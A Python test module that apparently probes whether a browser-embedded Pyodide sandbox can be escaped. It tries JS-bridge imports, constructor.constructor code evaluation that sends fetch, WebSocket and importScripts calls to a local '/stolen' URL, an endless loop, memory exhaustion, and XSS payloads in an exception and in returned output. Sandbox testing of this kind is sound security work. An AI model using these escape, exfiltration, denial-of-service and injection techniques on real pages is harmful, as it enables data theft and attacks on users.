"""Tries to get out of the page's Python: what it reaches is the result."""

import contextlib
import gc
import importlib.util
import sys


def calculate(*, what: str, address: int):
    url = f"http://127.0.0.1:{address}/stolen"
    reached = [str(each) for each in TRIES[what](url) if each]
    return {"reached": len(reached), "tries": [{"what": each} for each in reached]}


def python(url):
    """The doors of Pyodide."""
    for name in ("js", "pyodide_js", "pyodide", "pyodide.http", "pyodide.code", "_pyodide_core", "micropip", "ctypes"):
        yield importable(name)
    yield from (
        name for name in ("js", "pyodide_js", "pyodide", "pyodide.http", "_pyodide_core") if name in sys.modules
    )
    for finder in list(sys.meta_path):
        for name in ("js", "pyodide_js", "pyodide.http"):
            try:
                spec = finder.find_spec(name, None)
                module = importlib.util.module_from_spec(spec)
                sys.modules[name] = module
                spec.loader.exec_module(module)
                yield f"{name} by {finder!r}: {getattr(module, 'open_url', getattr(module, 'fetch', None))(url)!r}"
            except Exception:
                sys.modules.pop(name, None)


def sockets(url):
    """Python's own ways to the network."""
    import urllib.parse

    for name in ("socket", "_socket", "ssl", "urllib.request", "http.client", "asyncio", "webbrowser", "ftplib"):
        yield importable(name)
    assert urllib.parse.urlsplit(url).scheme == "http"


def objects(url):
    """Everything the interpreter holds: is an object of the browser's among it, and does it lead to its functions?"""
    for each in gc.get_objects():
        if "JsProxy" in type(each).__name__ or "pyodide.ffi" in repr(type(each)):
            yield from attempts(each, url)


def attempts(each, url):
    """What an object of the browser's would lead to."""
    asked = (
        lambda: each.constructor.constructor(f"return fetch('{url}')")(),
        lambda: each.constructor.constructor(f"return new WebSocket('{url.replace('http', 'ws')}')")(),
        lambda: each.constructor.constructor("return globalThis")().fetch(url),
        lambda: each.constructor.constructor(f"importScripts('{url}')")(),
        lambda: each.fetch(url),
        lambda: each.loadPackage("micropip"),
    )
    for ask in asked:
        with contextlib.suppress(BaseException):
            yield f"{each!r} gave {ask()!r}"


def loop(url):
    while True:
        pass


def memory(url):
    # Two of the largest there can be: together they are more than 4 GB, all that the page's Python can address.
    blocks = [bytearray(2_147_000_000), bytearray(2_147_000_000)]
    yield f"{len(blocks)} blocks"


def raises(url):
    raise KeyError("<img src=x onerror=alert(1)>")


def markup(url):
    return ["<script>alert(1)</script>"]


def importable(name):
    try:
        return importlib.import_module(name) and name
    except ImportError:
        return None


TRIES = {
    "python": python,
    "sockets": sockets,
    "objects": objects,
    "loop": loop,
    "memory": memory,
    "raises": raises,
    "markup": markup,
}
